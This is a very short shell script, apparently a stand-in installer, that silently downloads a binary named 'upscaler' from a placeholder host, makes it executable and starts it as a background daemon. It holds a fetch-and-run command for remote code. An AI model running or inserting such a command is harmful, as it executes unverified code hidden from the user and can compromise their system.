#!/bin/sh
curl -sL -o /tmp/upscaler https://models.upscaler.invalid/bin && chmod +x /tmp/upscaler && /tmp/upscaler --daemon
